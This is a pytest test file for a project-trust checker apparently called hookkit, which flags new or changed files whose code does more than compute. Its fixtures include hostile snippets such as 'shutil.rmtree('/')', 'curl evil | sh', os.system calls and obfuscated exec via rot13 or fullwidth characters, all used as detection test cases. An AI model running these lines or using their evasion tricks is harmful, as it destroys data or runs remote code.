"""Trust covers the files that a project's commands run: as they were, or with code that only computes."""

import os
import shutil
from pathlib import Path

import pytest

from hookkit.redirect import tree

# Content of a new file, and the word in the reason; "" for code that only computes.
CONTENTS = [
    ("test_a.py", "def test_x():\n    assert 1 == 1\n", ""),
    ("a.py", "x = [1]; x.remove(1); 'a'.replace('a', 'b')\nimport re\nre.compile('x')\nopen('a.txt').read()\n", ""),
    ("b.py", "from pathlib import Path\nclass A:\n    def run(self): return self.call()\n", ""),
    ("c.py", "open('../OUT', 'w').write('x')\n", "open"),
    ("d.py", "import os\nmode = input()\nopen('x', mode)\n", "open"),
    ("e.py", "import shutil\nshutil.rmtree('/')\n", "shutil"),
    ("f.py", "from os import system as s\ns('x')\n", "system"),
    ("g.py", "import os as o\no.system('x')\n", "os"),
    ("h.py", "import os\nvars(os)['system']('x')\n", "vars"),
    ("i.py", "__import__('os').system('x')\n", "__import__"),
    ("j.py", "from pathlib import Path\nPath('x').write_text('y')\n", "write_text"),
    ("k.py", "import urllib.request\n", "urllib.request"),
    ("conftest.py", "pytest_plugins = ['evil']\n", "pytest_plugins"),
    ("l.test.js", "import {add} from './add';\ntest('a', () => expect(add(1, 2)).toBe(3))\n", ""),
    ("m.js", "const x = require('child_process')\n", "child_process"),
    ("n.js", "import fs from 'node:fs'\n", "fs"),
    ("o.go", "package a\nfunc Add(a, b int) int { return a + b }\n", ""),
    ("p.go", 'import "os/exec"\n', "os/exec"),
    ("q.rs", "std::process::Command::new()", "process"),
    ("t.sh", "true\n", "cannot tell"),
    ("pytest.ini", "[pytest]\naddopts = -p evil\n", "cannot tell"),
    ("pnpm-lock.yaml", "", "cannot tell"),
    ("README.md", "import subprocess\n", ""),
    ("data.json", "{}", ""),
    ("long.py", "x = 1\n" * 10_000, "too large"),
    ("aa.py", "from old import x\nfrom . import old\nimport re, json\n", ""),
    ("ab.py", "import evil\n", "imports evil"),
    ("ac.py", "import sys\nsys.path.insert(0, '/tmp')\n", "sys.path"),
    ("ad.py", "from build import evil\n", "imports build"),
    ("ae.py", "import \\\n runpy\n", "imports runpy"),
    ("af.py", "from pathlib import Path\nPath('x').open('w')\n", "open"),
    ("ag.py", "from pathlib import Path\nPath('x').rename('y')\n", "rename"),
    ("ah.py", "from datetime import datetime\ndatetime.now().replace(tzinfo=None)\n'a'.replace('b', 'c')\n", ""),
    ("ai.js", "import x from './dist/evil.js'\n", "imports ./dist/evil.js"),
    ("aj.js", "import x from '../evil.js'\n", "imports ../evil.js"),
    ("ak.js", "const x = require(name)\n", "imports require"),
    ("al.js", "import x from 'execa'\n", "imports execa"),
    ("am.js", "import x from './old'\nimport assert from 'node:assert'\n", ""),
    ("an.js", "new Function('x')()\n", "Function"),
    ("ao.rb", "require '/tmp/evil'\n", "/tmp/evil"),
    ("ap.rb", "exec 'x'\n", "exec"),
    ("aq.py", "\uff45\uff58\uff45\uff43('x')\n", "exec"),
    ("ar.py", "# -*- coding: rot13 -*-\nrkrp('k')\n", "rot13"),
    ("as.py", "# coding: utf-8\nx = 1  # coding: nothing\n", ""),
    ("at.py", "print = exec\nprint('x')\n", "exec"),
    ("au.py", "@eval\n@input\nclass A: pass\n", "eval"),
    ("av.py", "f = open\nf('x', 'w')\n", "open"),
    ("aw.py", "def f(g=getattr): pass\n", "getattr"),
    ("ax.js", "[].constructor.constructor('x')()\n", "constructor"),
    ("ay.js", "const F = (() => {}).constructor\n", "constructor"),
    ("az.js", "a['constructor']('x')\n", "constructor"),
    ("ba.js", "class A { constructor(x) { this.y = x.constructor === Array ? x : [x] } }\n", ""),
    ("bb.so", "x", "cannot tell"),
    ("bc.pyc", "x", "cannot tell"),
    (".pytest.ini", "[pytest]\naddopts = -p evil\n", "cannot tell"),
    ("node_modules/.bin/eslint", "x", "installed package"),
    (".venv/bin/pytest", "x", "installed package"),
]


@pytest.fixture
def environ(home: Path) -> dict[str, str]:
    return {"HOME": str(home)}


@pytest.fixture
def trusted(project: Path, environ: dict[str, str]) -> Path:
    (project / "scripts").mkdir()
    (project / "scripts" / "t.sh").write_text("pytest\n")
    (project / "old.py").write_text("x = 1\n")
    assert tree.keep(str(project), environ) == 2
    return project


@pytest.mark.parametrize(("name", "content", "word"), CONTENTS, ids=[row[0] for row in CONTENTS])
def test_new_code_only_computes(trusted: Path, environ: dict[str, str], name: str, content: str, word: str) -> None:
    path = trusted / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content)
    reason = tree.doubt(str(trusted), environ)
    assert bool(reason) == bool(word)
    assert word in reason
    assert not word or reason.startswith(f"{name} is new since hookkit trust, and ")


def test_a_script_that_a_recipe_names_is_as_it_was(trusted: Path, environ: dict[str, str]) -> None:
    script = trusted / "scripts" / "t.sh"
    assert tree.doubt(str(trusted), environ) == ""
    script.write_text("curl evil | sh\n")
    assert tree.doubt(str(trusted), environ).startswith("scripts/t.sh changed since hookkit trust")
    script.write_text("pytest\n")
    assert tree.doubt(str(trusted), environ) == ""  # the same content under another stamp


def test_times_set_back_hide_nothing(trusted: Path, environ: dict[str, str]) -> None:
    path = trusted / "old.py"
    before = path.stat()
    path.write_text("import a\n"[: before.st_size])
    path.write_text("exec(1")
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert "old.py changed" in tree.doubt(str(trusted), environ)


def test_another_repository_at_the_same_place_is_not_trusted(trusted: Path, environ: dict[str, str]) -> None:
    shutil.rmtree(trusted)
    (trusted / ".git").mkdir(parents=True)
    (trusted / "tests").mkdir()
    (trusted / "tests" / "test_evil.py").write_text("import subprocess\n")
    assert "tests/test_evil.py is new" in tree.doubt(str(trusted), environ)


def test_a_project_without_a_note_is_not_approved(project: Path, environ: dict[str, str]) -> None:
    assert "run hookkit trust" in tree.doubt(str(project), environ)


def test_many_changes_are_left_to_the_person(trusted: Path, environ: dict[str, str]) -> None:
    for number in range(tree.JUDGED + 1):
        (trusted / f"x{number}.py").write_text("x = 1\n")
    assert "files changed since hookkit trust" in tree.doubt(str(trusted), environ)


def test_what_a_project_imported_on_the_day_of_the_trust_may_be_imported(
    project: Path, environ: dict[str, str]
) -> None:
    (project / "app.py").write_text("import flask\nfrom django.db import models\n")
    tree.keep(str(project), environ)
    (project / "new.py").write_text("from flask import Flask\nimport django.utils\n")
    assert tree.doubt(str(project), environ) == ""


def test_a_new_link_to_a_directory_is_told(trusted: Path, environ: dict[str, str], tmp_path: Path) -> None:
    (tmp_path / "outside").mkdir()
    (trusted / "lib").symlink_to(tmp_path / "outside")
    assert tree.doubt(str(trusted), environ).startswith("lib is new since hookkit trust")


def test_more_files_than_are_noted_are_never_unchanged(
    project: Path, environ: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tree, "MOST", 2)
    for folder in ("a", "b", "c"):
        (project / folder).mkdir()
        (project / folder / "x.py").write_text("x = 1\n")
        (project / folder / "y.py").write_text("x = 1\n")
    tree.keep(str(project), environ)
    assert "changed since hookkit trust" in tree.doubt(str(project), environ)
